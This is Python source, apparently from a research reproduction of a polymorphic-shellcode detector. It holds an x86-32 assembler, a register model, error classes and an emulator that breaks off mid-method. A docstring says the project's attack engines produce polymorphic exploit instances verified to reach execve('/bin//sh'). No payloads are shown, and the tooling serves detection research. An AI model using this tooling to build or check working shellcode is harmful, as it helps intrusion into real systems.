                opcode = 0xD0 if size == 1 else 0xD1
                return pfx + bytes([opcode]) + _encode_rm(n, dst)
            opcode = 0xC0 if size == 1 else 0xC1
            return pfx + bytes([opcode]) + _encode_rm(n, dst) + _le(count.value, 1)
        if isinstance(count, Register) and count.name == "cl":
            opcode = 0xD2 if size == 1 else 0xD3
            return pfx + bytes([opcode]) + _encode_rm(n, dst)
        raise AssemblerError(f"shift count must be imm8 or cl: {count}")

    def _f7(self, m: str, ops: tuple[Operand, ...]) -> bytes:
        if len(ops) != 1:
            raise AssemblerError(f"{m} needs 1 operand")
        (dst,) = ops
        size = _op_size(ops)
        opcode = 0xF6 if size == 1 else 0xF7
        ext = _F7GROUP[m if m != "imul" else "imul1"]
        return _prefix(size) + bytes([opcode]) + _encode_rm(ext, dst)

    def _enc_imul(self, ops: tuple[Operand, ...]) -> bytes:
        if len(ops) == 1:
            return self._f7("imul", ops)
        if len(ops) == 2 and isinstance(ops[0], Register):
            return b"\x0f\xaf" + _encode_rm(ops[0].code, ops[1])
        if len(ops) == 3 and isinstance(ops[0], Register) and isinstance(ops[2], Imm):
            if _fits8(ops[2].value):
                return b"\x6b" + _encode_rm(ops[0].code, ops[1]) + _le(ops[2].value, 1)
            return b"\x69" + _encode_rm(ops[0].code, ops[1]) + _le(ops[2].value, 4)
        raise AssemblerError(f"bad operands for imul: {ops}")

    # -- extensions ------------------------------------------------------------

    def _enc_movzx(self, ops: tuple[Operand, ...]) -> bytes:
        return self._ext_mov(ops, 0xB6)

    def _enc_movsx(self, ops: tuple[Operand, ...]) -> bytes:
        return self._ext_mov(ops, 0xBE)

    def _ext_mov(self, ops: tuple[Operand, ...], base: int) -> bytes:
        if len(ops) != 2 or not isinstance(ops[0], Register) or ops[0].size != 4:
            raise AssemblerError("movzx/movsx need a 32-bit destination register")
        src = ops[1]
        src_size = src.size if isinstance(src, (Register, Mem)) else 1
        opcode = base if src_size == 1 else base + 1
        return bytes([0x0F, opcode]) + _encode_rm(ops[0].code, src)

    def _enc_bswap(self, ops: tuple[Operand, ...]) -> bytes:
        if len(ops) != 1 or not isinstance(ops[0], Register) or ops[0].size != 4:
            raise AssemblerError("bswap needs a 32-bit register")
        return bytes([0x0F, 0xC8 + ops[0].code])

    # -- int / call / ret indirect ------------------------------------------------

    def _enc_int(self, ops: tuple[Operand, ...]) -> bytes:
        if len(ops) != 1 or not isinstance(ops[0], Imm):
            raise AssemblerError("int needs an imm8")
        if ops[0].value == 3:
            return b"\xcc"
        return b"\xcd" + _le(ops[0].value, 1)

    def _enc_jmp(self, ops: tuple[Operand, ...]) -> bytes:
        if len(ops) != 1 or isinstance(ops[0], Imm):
            raise AssemblerError("direct jmp must go through the layout pass")
        return b"\xff" + _encode_rm(4, ops[0])

    def _enc_call(self, ops: tuple[Operand, ...]) -> bytes:
        if len(ops) != 1 or isinstance(ops[0], Imm):
            raise AssemblerError("direct call must go through the layout pass")
        return b"\xff" + _encode_rm(2, ops[0])

    def _enc_retn(self, ops: tuple[Operand, ...]) -> bytes:
        if len(ops) != 1 or not isinstance(ops[0], Imm):
            raise AssemblerError("retn needs an imm16")
        return b"\xc2" + _le(ops[0].value, 2)


_ENCODER = _Encoder()


def encode_instruction(ins: Instruction) -> bytes:
    """Encode one non-branch instruction (branches need layout context)."""
    return _ENCODER.encode(ins)


# ---------------------------------------------------------------------------
# Branch encoding (done by the layout pass)
# ---------------------------------------------------------------------------


def _encode_branch(m: str, rel: int, long_form: bool) -> bytes:
    if m in LOOPS:
        if not _fits8(rel):
            raise AssemblerError(f"{m} target out of rel8 range ({rel})")
        opcode = {"loopne": 0xE0, "loope": 0xE1, "loop": 0xE2, "jecxz": 0xE3}[m]
        return bytes([opcode]) + _le(rel, 1)
    if m == "call":
        return b"\xe8" + _le(rel, 4)
    if m == "jmp":
        if not long_form and _fits8(rel):
            return b"\xeb" + _le(rel, 1)
        return b"\xe9" + _le(rel, 4)
    if m in COND_BRANCHES:
        cc = COND_BRANCHES[m]
        if not long_form and _fits8(rel):
            return bytes([0x70 + cc]) + _le(rel, 1)
        return bytes([0x0F, 0x80 + cc]) + _le(rel, 4)
    raise AssemblerError(f"not a branch mnemonic: {m}")


def _branch_sizes(m: str) -> tuple[int, int]:
    """(short size, long size) for a branch; loops have no long form."""
    if m in LOOPS:
        return 2, 2
    if m == "call":
        return 5, 5
    if m == "jmp":
        return 2, 5
    return 2, 6  # jcc


# ---------------------------------------------------------------------------
# Parser
# ---------------------------------------------------------------------------

_LABEL_RE = re.compile(r"^([A-Za-z_.$][\w.$]*):$")
_NUM_RE = re.compile(r"^(0x[0-9a-fA-F]+|[0-9a-fA-F]+h|\d+|-\d+|-0x[0-9a-fA-F]+)$")
_SIZE_NAMES = {"byte": 1, "word": 2, "dword": 4}


def _parse_number(tok: str) -> int:
    tok = tok.strip().lower()
    neg = tok.startswith("-")
    if neg:
        tok = tok[1:]
    if tok.startswith("0x"):
        value = int(tok, 16)
    elif tok.endswith("h"):
        value = int(tok[:-1], 16)
    else:
        value = int(tok, 10)
    return -value if neg else value


def _parse_mem(size: int | None, expr: str) -> Mem:
    inner = expr.strip()
    if not (inner.startswith("[") and inner.endswith("]")):
        raise AssemblerError(f"malformed memory operand: {expr!r}")
    inner = inner[1:-1].replace(" ", "")
    # Normalize "a-b" to "a+-b" then split on '+'.
    inner = inner.replace("-", "+-")
    terms = [t.strip() for t in inner.split("+") if t.strip()]
    base: Register | None = None
    index: Register | None = None
    scale = 1
    disp = 0
    for term in terms:
        if "*" in term:
            lhs, _, rhs = term.partition("*")
            lhs, rhs = lhs.strip(), rhs.strip()
            if lhs.lower() in _BY_NAME:
                index, scale = reg(lhs), _parse_number(rhs)
            elif rhs.lower() in _BY_NAME:
                index, scale = reg(rhs), _parse_number(lhs)
            else:
                raise AssemblerError(f"bad scaled-index term: {term!r}")
        elif term.lower() in _BY_NAME:
            if base is None:
                base = reg(term)
            elif index is None:
                index = reg(term)
            else:
                raise AssemblerError(f"too many registers in {expr!r}")
        else:
            disp += _parse_number(term)
    return Mem(size=size or 4, base=base, index=index, scale=scale, disp=disp)


def _parse_operand(text: str, size_hint: int | None = None) -> Operand:
    text = text.strip()
    low = text.lower()
    # "byte ptr [...]" / "byte [...]"
    m = re.match(r"^(byte|word|dword)\s+(?:ptr\s+)?(\[.*\])$", low)
    if m:
        return _parse_mem(_SIZE_NAMES[m.group(1)], m.group(2))
    if low.startswith("["):
        return _parse_mem(size_hint, low)
    if low in _BY_NAME:
        return reg(low)
    if _NUM_RE.match(low):
        value = _parse_number(low)
        size = 4
        return Imm(value if value < 1 << 31 else value - (1 << 32), size)
    raise AssemblerError(f"cannot parse operand: {text!r}")


def _split_operands(text: str) -> list[str]:
    """Split an operand list on commas that are not inside brackets/quotes."""
    parts: list[str] = []
    depth = 0
    quote: str | None = None
    current = ""
    for ch in text:
        if quote:
            current += ch
            if ch == quote:
                quote = None
            continue
        if ch in "'\"":
            quote = ch
            current += ch
        elif ch == "[":
            depth += 1
            current += ch
        elif ch == "]":
            depth -= 1
            current += ch
        elif ch == "," and depth == 0:
            parts.append(current.strip())
            current = ""
        else:
            current += ch
    if current.strip():
        parts.append(current.strip())
    return parts


@dataclass
class _Item:
    """A parse unit: an instruction, raw data, or a label definition."""

    kind: str  # "ins" | "data" | "label"
    ins: Instruction | None = None
    data: bytes = b""
    name: str = ""


def _parse_db(arg_text: str) -> bytes:
    out = bytearray()
    for part in _split_operands(arg_text):
        if part.startswith(("'", '"')):
            if len(part) < 2 or part[-1] != part[0]:
                raise AssemblerError(f"unterminated string literal: {part!r}")
            out += part[1:-1].encode("latin-1")
        else:
            value = _parse_number(part)
            if not -128 <= value <= 255:
                raise AssemblerError(f"db value out of byte range: {part!r}")
            out.append(value & 0xFF)
    return bytes(out)


def _parse_line(line: str) -> list[_Item]:
    line = line.split(";", 1)[0].strip()
    if not line:
        return []
    items: list[_Item] = []
    # Leading label(s) on the same line: "decode: xor ..."
    while True:
        m = re.match(r"^([A-Za-z_.$][\w.$]*):\s*", line)
        if not m:
            break
        items.append(_Item(kind="label", name=m.group(1)))
        line = line[m.end():]
    if not line:
        return items
    mnemonic, _, rest = line.partition(" ")
    mnemonic = mnemonic.lower()
    rest = rest.strip()
    if mnemonic in ("rep", "repe", "repz", "repne", "repnz"):
        prefix = {"repz": "repe", "repnz": "repne"}.get(mnemonic, mnemonic)
        mnemonic = f"{prefix} {rest.lower()}"
        if mnemonic not in _NOARG:
            raise AssemblerError(f"bad rep combination: {line!r}")
        items.append(_Item(kind="ins", ins=Instruction(mnemonic, ())))
        return items
    if mnemonic == "db":
        items.append(_Item(kind="data", data=_parse_db(rest)))
        return items
    if mnemonic == "dd":
        data = b"".join(_le(_parse_number(p), 4) for p in _split_operands(rest))
        items.append(_Item(kind="data", data=data))
        return items
    mnemonic = COND_ALIASES.get(mnemonic, mnemonic)
    mnemonic = LOOP_ALIASES.get(mnemonic, mnemonic)
    if mnemonic in COND_BRANCHES or mnemonic in LOOPS or mnemonic in ("jmp", "call"):
        target = rest.lower().removeprefix("short").removeprefix("near").strip()
        if not target:
            raise AssemblerError(f"branch without target: {line!r}")
        if _NUM_RE.match(target):
            ins = Instruction(mnemonic, (Imm(_parse_number(target), 4),))
        elif mnemonic in ("jmp", "call") and (
            target in _BY_NAME or target.startswith(("[", "byte", "word", "dword"))
        ):
            # Indirect transfer through a register or memory pointer.
            ins = Instruction(mnemonic, (_parse_operand(target),))
        else:
            ins = Instruction(mnemonic, (), label=target)
        items.append(_Item(kind="ins", ins=ins))
        return items
    operands = tuple(_parse_operand(p) for p in _split_operands(rest)) if rest else ()
    # Propagate a register size onto unsized immediates for 8/16-bit ops.
    operands = _fix_imm_sizes(mnemonic, operands)
    items.append(_Item(kind="ins", ins=Instruction(mnemonic, operands)))
    return items


def _fix_imm_sizes(mnemonic: str, operands: tuple[Operand, ...]) -> tuple[Operand, ...]:
    sizes = [op.size for op in operands if isinstance(op, (Register, Mem))]
    if not sizes:
        return operands
    size = sizes[0]
    fixed: list[Operand] = []
    for op in operands:
        if isinstance(op, Imm) and op.size != size:
            if mnemonic in _SHIFT or mnemonic in ("int", "retn"):
                fixed.append(op)
            else:
                fixed.append(_imm_for(op.value, size))
        else:
            fixed.append(op)
    return tuple(fixed)


def parse_asm(text: str) -> list[_Item]:
    """Parse assembler text into items (exposed mainly for tests)."""
    items: list[_Item] = []
    for line in text.splitlines():
        items.extend(_parse_line(line))
    return items


# ---------------------------------------------------------------------------
# Layout: label resolution with branch relaxation
# ---------------------------------------------------------------------------


class Assembler:
    """Two-phase assembler with iterative branch relaxation."""

    def __init__(self, origin: int = 0) -> None:
        self.origin = origin

    def assemble(self, source: str | list[Instruction]) -> bytes:
        if isinstance(source, str):
            items = parse_asm(source)
        else:
            items = [_Item(kind="ins", ins=ins) for ins in source]
        return self._layout(items)

    def assemble_listing(self, source: str) -> list[Instruction]:
        """Assemble and return the instruction list with final addresses and
        raw bytes filled in (data items are dropped from the listing)."""
        items = parse_asm(source)
        self._layout(items)
        return [item.ins for item in items if item.kind == "ins" and item.ins]

    def _layout(self, items: list[_Item]) -> bytes:
        branch_long: dict[int, bool] = {
            i: False for i, item in enumerate(items)
            if item.kind == "ins" and item.ins is not None and item.ins.label
        }
        # Pre-encode non-branch instructions once; their sizes never change.
        fixed: dict[int, bytes] = {}
        for i, item in enumerate(items):
            if item.kind == "ins" and item.ins is not None and i not in branch_long:
                if (item.ins.is_branch and item.ins.operands
                        and isinstance(item.ins.operands[0], Imm)):
                    # Branch to absolute immediate: relaxed like labels.
                    branch_long[i] = False
                else:
                    fixed[i] = _ENCODER.encode(item.ins)

        for _round in range(len(items) + 2):
            addresses, labels = self._measure(items, branch_long, fixed)
            grew = False
            for i, is_long in branch_long.items():
                if is_long:
                    continue
                ins = items[i].ins
                assert ins is not None
                target = self._target_of(ins, labels)
                next_addr = addresses[i] + _branch_sizes(ins.mnemonic)[0]
                rel = target - next_addr
                if not _fits8(rel) and ins.mnemonic not in LOOPS:
                    branch_long[i] = True
                    grew = True
            if not grew:
                break
        else:  # pragma: no cover - relaxation always terminates
            raise AssemblerError("branch relaxation did not converge")

        # Final encode.
        out = bytearray()
        addresses, labels = self._measure(items, branch_long, fixed)
        for i, item in enumerate(items):
            if item.kind == "label":
                continue
            if item.kind == "data":
                out += item.data
                continue
            ins = item.ins
            assert ins is not None
            if i in branch_long:
                target = self._target_of(ins, labels)
                size = (_branch_sizes(ins.mnemonic)[1] if branch_long[i]
                        else _branch_sizes(ins.mnemonic)[0])
                rel = target - (addresses[i] + size)
                raw = _encode_branch(ins.mnemonic, rel, branch_long[i])
            else:
                raw = fixed[i]
            ins.address = addresses[i]
            ins.raw = raw
            if ins.label is not None:
                ins.operands = (Imm(self._target_of(ins, labels) & 0xFFFFFFFF
                                    if self._target_of(ins, labels) >= 0
                                    else self._target_of(ins, labels), 4),)
            out += raw
        return bytes(out)

    def _measure(
        self,
        items: list[_Item],
        branch_long: dict[int, bool],
        fixed: dict[int, bytes],
    ) -> tuple[dict[int, int], dict[str, int]]:
        addresses: dict[int, int] = {}
        labels: dict[str, int] = {}
        pc = self.origin
        for i, item in enumerate(items):
            addresses[i] = pc
            if item.kind == "label":
                if item.name in labels:
                    raise AssemblerError(f"duplicate label: {item.name!r}")
                labels[item.name] = pc
            elif item.kind == "data":
                pc += len(item.data)
            else:
                if i in branch_long:
                    short, long_ = _branch_sizes(item.ins.mnemonic)  # type: ignore[union-attr]
                    pc += long_ if branch_long[i] else short
                else:
                    pc += len(fixed[i])
        return addresses, labels

    @staticmethod
    def _target_of(ins: Instruction, labels: dict[str, int]) -> int:
        if ins.label is not None:
            if ins.label not in labels:
                raise AssemblerError(f"undefined label: {ins.label!r}")
            return labels[ins.label]
        assert ins.operands and isinstance(ins.operands[0], Imm)
        return ins.operands[0].value


def assemble(source: str | list[Instruction], origin: int = 0) -> bytes:
    """Assemble Intel-syntax text (or a list of Instructions) to bytes."""
    return Assembler(origin=origin).assemble(source)

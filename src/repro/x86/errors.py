"""Error types for the x86 toolchain."""

__all__ = ["X86Error", "AssemblerError", "DisassemblerError"]


class X86Error(ValueError):
    """Base class for assembler/disassembler failures."""


class AssemblerError(X86Error):
    """Source text or operand combination cannot be encoded."""


class DisassemblerError(X86Error):
    """Byte stream cannot be decoded at the current offset.

    ``offset`` records where decoding failed, which the binary-extraction
    stage uses to decide whether a candidate frame is really code.
    """

    def __init__(self, message: str, offset: int = -1) -> None:
        super().__init__(message)
        self.offset = offset

"""x86-32 register model.

Registers are interned: ``reg("eax")`` always returns the same object, so
identity comparisons are safe everywhere in the disassembler and matcher.
Each register knows its encoding number, width, and its 32-bit *family*
(``al``, ``ax`` and ``eax`` all belong to family ``eax``), which is what the
semantic matcher uses to reason about clobbering across operand sizes.
"""

from __future__ import annotations

from dataclasses import dataclass

__all__ = ["Register", "reg", "GPR32", "GPR16", "GPR8", "EAX", "ECX", "EDX",
           "EBX", "ESP", "EBP", "ESI", "EDI"]


@dataclass(frozen=True)
class Register:
    """A concrete x86 register.

    ``code`` is the 3-bit encoding used in ModRM/opcode+r forms. ``size`` is
    the operand width in bytes (1, 2 or 4).  ``high`` marks the legacy high
    byte registers (ah/ch/dh/bh), whose encoding overlaps the low-byte codes
    4-7 but whose family is eax..ebx.
    """

    name: str
    code: int
    size: int
    high: bool = False

    @property
    def family(self) -> str:
        """Name of the 32-bit register this register aliases."""
        return _FAMILY[self.name]

    @property
    def bits(self) -> int:
        return self.size * 8

    def __str__(self) -> str:
        return self.name

    def overlaps(self, other: "Register") -> bool:
        """True if writing one register modifies the other."""
        return self.family == other.family


_GPR32_NAMES = ["eax", "ecx", "edx", "ebx", "esp", "ebp", "esi", "edi"]
_GPR16_NAMES = ["ax", "cx", "dx", "bx", "sp", "bp", "si", "di"]
_GPR8_NAMES = ["al", "cl", "dl", "bl", "ah", "ch", "dh", "bh"]

GPR32 = tuple(Register(n, i, 4) for i, n in enumerate(_GPR32_NAMES))
GPR16 = tuple(Register(n, i, 2) for i, n in enumerate(_GPR16_NAMES))
GPR8 = tuple(
    Register(n, i, 1, high=(i >= 4)) for i, n in enumerate(_GPR8_NAMES)
)

_FAMILY: dict[str, str] = {}
for i in range(8):
    _FAMILY[_GPR32_NAMES[i]] = _GPR32_NAMES[i]
    _FAMILY[_GPR16_NAMES[i]] = _GPR32_NAMES[i]
for i, n in enumerate(_GPR8_NAMES):
    # al..bl alias eax..ebx; ah..bh also alias eax..ebx.
    _FAMILY[n] = _GPR32_NAMES[i % 4]

_BY_NAME: dict[str, Register] = {r.name: r for r in (*GPR32, *GPR16, *GPR8)}

EAX, ECX, EDX, EBX, ESP, EBP, ESI, EDI = GPR32


def reg(name: str) -> Register:
    """Look up a register by name (case-insensitive, interned)."""
    try:
        return _BY_NAME[name.lower()]
    except KeyError:
        raise ValueError(f"unknown register: {name!r}") from None


def reg_by_code(code: int, size: int) -> Register:
    """Look up a register by ModRM encoding number and operand size."""
    table = {4: GPR32, 2: GPR16, 1: GPR8}.get(size)
    if table is None:
        raise ValueError(f"invalid register size: {size}")
    if not 0 <= code <= 7:
        raise ValueError(f"invalid register code: {code}")
    return table[code]

"""A concrete x86-32 emulator for the supported instruction subset.

Two jobs in this reproduction:

1. **Ground truth for the attack engines** — a polymorphic instance is
   only an exploit if the victim CPU can run its decoder and land in the
   recovered payload.  The engine tests execute every generated instance
   here and assert that it ends in ``execve("/bin//sh")`` with the string
   actually present in emulated memory.
2. **Emulation-based verification** (:mod:`repro.core.emuverify`) — an
   optional post-match stage that runs a matched frame and confirms the
   behaviour dynamically (self-modifying writes, syscalls), an extension
   beyond the paper in the direction later work (e.g. network-level
   emulation) took.

The emulator decodes from *memory* on every step, so self-modifying code
— the whole point of decoder loops — executes correctly.
"""

from __future__ import annotations

from dataclasses import dataclass, field

from .disasm import Disassembler
from .errors import DisassemblerError, X86Error
from .instruction import COND_BRANCHES, Instruction
from .operands import Imm, Mem, Operand
from .registers import Register

__all__ = ["Emulator", "EmulationError", "Syscall", "CPU_STEP_LIMIT"]

_U32 = 0xFFFFFFFF
CPU_STEP_LIMIT = 100_000


class EmulationError(X86Error):
    """Raised when execution cannot continue (bad fetch, unmapped memory,
    unsupported instruction, step limit)."""


@dataclass
class Syscall:
    """A recorded ``int`` invocation with the register file at trap time."""

    vector: int
    eip: int
    regs: dict[str, int]

    @property
    def eax(self) -> int:
        return self.regs["eax"]


class _Memory:
    """Sparse paged memory."""

    PAGE = 4096

    def __init__(self) -> None:
        self._pages: dict[int, bytearray] = {}

    def _page(self, addr: int) -> bytearray:
        key = addr // self.PAGE
        page = self._pages.get(key)
        if page is None:
            page = bytearray(self.PAGE)
            self._pages[key] = page
        return page

    def write(self, addr: int, data: bytes) -> None:
        for i, b in enumerate(data):
            a = (addr + i) & _U32
            self._page(a)[a % self.PAGE] = b

    def read(self, addr: int, size: int) -> bytes:
        out = bytearray(size)
        for i in range(size):
            a = (addr + i) & _U32
            out[i] = self._page(a)[a % self.PAGE]
        return bytes(out)

    def read_u(self, addr: int, size: int) -> int:
        return int.from_bytes(self.read(addr, size), "little")

    def write_u(self, addr: int, value: int, size: int) -> None:
        self.write(addr, (value & ((1 << (size * 8)) - 1)).to_bytes(size, "little"))


def _parity(value: int) -> bool:
    return bin(value & 0xFF).count("1") % 2 == 0


class Emulator:
    """Executes code loaded into emulated memory.

    >>> emu = Emulator()
    >>> emu.load(code, base=0x1000)          # doctest: +SKIP
    >>> emu.run()                            # doctest: +SKIP
    """

    STACK_TOP = 0x00BFF000

    def __init__(self, step_limit: int = CPU_STEP_LIMIT,
                 max_out_of_frame: int | None = None) -> None:
        self.mem = _Memory()
        self.regs: dict[str, int] = {r: 0 for r in
                                     ("eax", "ecx", "edx", "ebx",
                                      "esp", "ebp", "esi", "edi")}
        self.regs["esp"] = self.STACK_TOP
        self.flags: dict[str, bool] = {f: False for f in
                                       ("zf", "sf", "cf", "of", "pf", "af",
                                        "df")}
        self.eip = 0
        self.step_limit = step_limit
        self.steps = 0
        self.syscalls: list[Syscall] = []
        self.mem_writes = 0
        self._decoder = Disassembler()
        self.halted = False
        self.code_base = 0
        self.code_end = 0
        #: fetches from outside the loaded frame (control escaped — the
        #: dynamic signature of return-into-libc / CRII-style stubs)
        self.out_of_frame_fetches = 0
        #: optional cap: halt once control has clearly left the frame
        self.max_out_of_frame = max_out_of_frame
        #: when True, ``int`` records the syscall and stops execution;
        #: when False it records and continues (eax := 0).
        self.stop_on_interrupt = True

    # -- setup -----------------------------------------------------------

    def load(self, code: bytes, base: int = 0x1000, entry: int | None = None) -> None:
        self.mem.write(base, code)
        self.eip = entry if entry is not None else base
        self.code_base = base
        self.code_end = base + len(code)

    # -- register access ---------------------------------------------------

    def get_reg(self, reg: Register) -> int:
        value = self.regs[reg.family]
        if reg.size == 4:
            return value
        if reg.size == 2:
            return value & 0xFFFF
        return (value >> 8) & 0xFF if reg.high else value & 0xFF

    def set_reg(self, reg: Register, value: int) -> None:
        old = self.regs[reg.family]
        if reg.size == 4:
            self.regs[reg.family] = value & _U32
        elif reg.size == 2:
            self.regs[reg.family] = (old & ~0xFFFF) | (value & 0xFFFF)
        elif reg.high:
            self.regs[reg.family] = (old & ~0xFF00) | ((value & 0xFF) << 8)
        else:
            self.regs[reg.family] = (old & ~0xFF) | (value & 0xFF)

    # -- operand access -----------------------------------------------------

    def _ea(self, mem: Mem) -> int:
        addr = mem.disp
        if mem.base is not None:
            addr += self.get_reg(mem.base)
        if mem.index is not None:
            addr += self.get_reg(mem.index) * mem.scale
        return addr & _U32

    def read_op(self, op: Operand) -> int:
        if isinstance(op, Register):
            return self.get_reg(op)
        if isinstance(op, Imm):
            return op.unsigned
        return self.mem.read_u(self._ea(op), op.size)

    def write_op(self, op: Operand, value: int) -> None:
        if isinstance(op, Register):
            self.set_reg(op, value)
        elif isinstance(op, Mem):
            self.mem.write_u(self._ea(op), value, op.size)
            self.mem_writes += 1
        else:
            raise EmulationError("cannot write an immediate")

    @staticmethod
    def _size_of(op: Operand) -> int:
        return op.size if isinstance(op, (Register, Mem)) else 4

    # -- stack ---------------------------------------------------------------

    def push(self, value: int) -> None:
        self.regs["esp"] = (self.regs["esp"] - 4) & _U32
        self.mem.write_u(self.regs["esp"], value, 4)

    def pop(self) -> int:
        value = self.mem.read_u(self.regs["esp"], 4)
        self.regs["esp"] = (self.regs["esp"] + 4) & _U32
        return value

    # -- flags -----------------------------------------------------------------

    def _set_logic_flags(self, result: int, size: int) -> None:
        mask = (1 << (size * 8)) - 1
        result &= mask
        self.flags["zf"] = result == 0
        self.flags["sf"] = bool(result >> (size * 8 - 1))
        self.flags["pf"] = _parity(result)
        self.flags["cf"] = False
        self.flags["of"] = False

    def _set_add_flags(self, a: int, b: int, carry_in: int, size: int) -> int:
        bits = size * 8
        mask = (1 << bits) - 1
        total = (a & mask) + (b & mask) + carry_in
        result = total & mask
        sign = 1 << (bits - 1)
        self.flags["cf"] = total > mask
        self.flags["of"] = bool(~(a ^ b) & (a ^ result) & sign)
        self.flags["zf"] = result == 0
        self.flags["sf"] = bool(result & sign)
        self.flags["pf"] = _parity(result)
        self.flags["af"] = bool(((a & 0xF) + (b & 0xF) + carry_in) & 0x10)
        return result

    def _set_sub_flags(self, a: int, b: int, borrow_in: int, size: int) -> int:
        bits = size * 8
        mask = (1 << bits) - 1
        a &= mask
        b &= mask
        result = (a - b - borrow_in) & mask
        sign = 1 << (bits - 1)
        self.flags["cf"] = a < b + borrow_in
        self.flags["of"] = bool((a ^ b) & (a ^ result) & sign)
        self.flags["zf"] = result == 0
        self.flags["sf"] = bool(result & sign)
        self.flags["pf"] = _parity(result)
        self.flags["af"] = (a & 0xF) < (b & 0xF) + borrow_in
        return result

    def _cond(self, mnemonic: str) -> bool:
        f = self.flags
        table = {
            "jo": f["of"], "jno": not f["of"],
            "jb": f["cf"], "jae": not f["cf"],
            "je": f["zf"], "jne": not f["zf"],
            "jbe": f["cf"] or f["zf"], "ja": not (f["cf"] or f["zf"]),
            "js": f["sf"], "jns": not f["sf"],
            "jp": f["pf"], "jnp": not f["pf"],
            "jl": f["sf"] != f["of"], "jge": f["sf"] == f["of"],
            "jle": f["zf"] or (f["sf"] != f["of"]),
            "jg": not f["zf"] and (f["sf"] == f["of"]),
        }
        return table[mnemonic]

    # -- execution ----------------------------------------------------------------

    def step(self) -> Instruction:
        """Fetch, decode and execute one instruction."""
        if self.steps >= self.step_limit:
            raise EmulationError(f"step limit ({self.step_limit}) exceeded")
        self.steps += 1
        if self.code_end and not (self.code_base <= self.eip < self.code_end):
            self.out_of_frame_fetches += 1
            if (self.max_out_of_frame is not None
                    and self.out_of_frame_fetches > self.max_out_of_frame):
                self.halted = True
                return Instruction("hlt")
        window = self.mem.read(self.eip, 16)
        try:
            ins = self._decoder.decode_one(window, 0, self.eip)
        except DisassemblerError as exc:
            raise EmulationError(f"bad fetch at {self.eip:#x}: {exc}") from exc
        next_eip = self.eip + ins.size
        self.eip = next_eip
        self._execute(ins)
        return ins

    def run(self, max_steps: int | None = None) -> None:
        """Run until halt, interrupt stop, or error."""
        budget = max_steps if max_steps is not None else self.step_limit
        for _ in range(budget):
            if self.halted:
                return
            self.step()
        if not self.halted:
            raise EmulationError("run() exhausted its step budget")

    # -- per-instruction semantics ----------------------------------------------

    def _execute(self, ins: Instruction) -> None:  # noqa: C901
        m = ins.mnemonic
        ops = ins.operands

        if m == "nop" or m in ("cld", "std", "clc", "stc", "cmc", "sahf",
                               "lahf", "cli", "sti"):
            if m == "cld":
                self.flags["df"] = False
            elif m == "std":
                self.flags["df"] = True
            elif m == "clc":
                self.flags["cf"] = False
            elif m == "stc":
                self.flags["cf"] = True
            elif m == "cmc":
                self.flags["cf"] = not self.flags["cf"]
            return

        if m == "mov":
            self.write_op(ops[0], self.read_op(ops[1]))
            return
        if m == "lea":
            assert isinstance(ops[1], Mem)
            self.write_op(ops[0], self._ea(ops[1]))
            return
        if m == "xchg":
            a, b = self.read_op(ops[0]), self.read_op(ops[1])
            self.write_op(ops[0], b)
            self.write_op(ops[1], a)
            return

        if m in ("add", "adc"):
            size = self._size_of(ops[0])
            carry = int(self.flags["cf"]) if m == "adc" else 0
            result = self._set_add_flags(self.read_op(ops[0]),
                                         self.read_op(ops[1]), carry, size)
            self.write_op(ops[0], result)
            return
        if m in ("sub", "sbb", "cmp"):
            size = self._size_of(ops[0])
            borrow = int(self.flags["cf"]) if m == "sbb" else 0
            result = self._set_sub_flags(self.read_op(ops[0]),
                                         self.read_op(ops[1]), borrow, size)
            if m != "cmp":
                self.write_op(ops[0], result)
            return
        if m in ("xor", "or", "and", "test"):
            size = self._size_of(ops[0])
            a, b = self.read_op(ops[0]), self.read_op(ops[1])
            result = {"xor": a ^ b, "or": a | b, "and": a & b,
                      "test": a & b}[m]
            self._set_logic_flags(result, size)
            if m != "test":
                self.write_op(ops[0], result)
            return
        if m == "inc" or m == "dec":
            size = self._size_of(ops[0])
            cf = self.flags["cf"]  # inc/dec preserve CF
            if m == "inc":
                result = self._set_add_flags(self.read_op(ops[0]), 1, 0, size)
            else:
                result = self._set_sub_flags(self.read_op(ops[0]), 1, 0, size)
            self.flags["cf"] = cf
            self.write_op(ops[0], result)
            return
        if m == "not":
            size = self._size_of(ops[0])
            self.write_op(ops[0], ~self.read_op(ops[0]) & ((1 << (size * 8)) - 1))
            return
        if m == "neg":
            size = self._size_of(ops[0])
            result = self._set_sub_flags(0, self.read_op(ops[0]), 0, size)
            self.write_op(ops[0], result)
            return

        if m in ("shl", "sal", "shr", "sar", "rol", "ror", "rcl", "rcr"):
            self._shift(m, ops)
            return

        if m in ("mul", "imul", "div", "idiv"):
            self._muldiv(m, ops)
            return

        if m in ("movzx", "movsx"):
            value = self.read_op(ops[1])
            if m == "movsx":
                src_size = self._size_of(ops[1])
                sign = 1 << (src_size * 8 - 1)
                if value & sign:
                    value |= _U32 ^ ((1 << (src_size * 8)) - 1)
            self.write_op(ops[0], value)
            return
        if m == "bswap":
            value = self.read_op(ops[0])
            self.write_op(ops[0],
                          int.from_bytes(value.to_bytes(4, "little"), "big"))
            return
        if m == "cdq":
            self.regs["edx"] = _U32 if self.regs["eax"] & 0x80000000 else 0
            return
        if m == "cwde":
            ax = self.regs["eax"] & 0xFFFF
            self.regs["eax"] = ax | (_U32 ^ 0xFFFF) if ax & 0x8000 else ax
            return
        if m == "salc":
            self.set_reg_family_low("eax", 0xFF if self.flags["cf"] else 0)
            return
        if m == "xlatb":
            addr = (self.regs["ebx"] + (self.regs["eax"] & 0xFF)) & _U32
            self.set_reg_family_low("eax", self.mem.read_u(addr, 1))
            return
        if m in ("daa", "das", "aaa", "aas"):
            # BCD fixups only ever appear as sled/junk here; model as nop
            # on al with flags untouched (sufficient for slide-through).
            return

        if m == "push":
            self.push(self.read_op(ops[0]))
            return
        if m == "pop":
            self.write_op(ops[0], self.pop())
            return
        if m in ("pusha", "pushad"):
            esp0 = self.regs["esp"]
            for r in ("eax", "ecx", "edx", "ebx"):
                self.push(self.regs[r])
            self.push(esp0)
            for r in ("ebp", "esi", "edi"):
                self.push(self.regs[r])
            return
        if m in ("popa", "popad"):
            for r in ("edi", "esi", "ebp"):
                self.regs[r] = self.pop()
            self.pop()  # skip esp
            for r in ("ebx", "edx", "ecx", "eax"):
                self.regs[r] = self.pop()
            return
        if m in ("pushf", "pushfd"):
            self.push(self._eflags_word())
            return
        if m in ("popf", "popfd"):
            self._set_eflags_word(self.pop())
            return
        if m == "leave":
            self.regs["esp"] = self.regs["ebp"]
            self.regs["ebp"] = self.pop()
            return

        if m == "jmp":
            self.eip = self._branch_target(ins)
            return
        if m in COND_BRANCHES:
